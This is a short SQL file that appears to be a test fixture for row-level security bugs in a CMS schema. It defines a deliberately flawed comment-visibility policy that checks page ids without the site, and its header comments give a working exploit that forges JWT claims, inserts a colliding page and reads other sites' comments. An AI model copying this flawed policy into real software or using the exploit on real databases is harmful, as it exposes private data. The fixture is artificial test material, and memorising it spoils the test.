-- Authors follow their comments, and the helper compares the page alone: pages carry over sites by a chosen
-- id.
-- about: comments, commented
-- as: hf_cms_app
-- exploit: SET request.jwt.claims = '{"sub": "a3000000-0000-0000-0000-000000000000"}';
-- exploit: INSERT INTO cms.pages (site_id, page_id, slug, title) VALUES
-- exploit:   ('a1000000-0000-0000-0000-000000000000', 'b5000000-0000-0000-0000-000000000000', 'z', 'z');
-- exploit: SELECT body FROM cms.comments;
-- shows: comment-secret
CREATE FUNCTION cms.can_see_page(p_page uuid) RETURNS boolean
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = cms, pg_temp AS $$
  SELECT EXISTS (SELECT 1 FROM cms.pages p JOIN cms.site_members m ON m.site_id = p.site_id
    WHERE p.page_id = p_page AND m.user_id = cms.uid())
$$;
CREATE POLICY commented_pages ON cms.comments FOR SELECT TO hf_cms_app USING (cms.can_see_page(page_id));
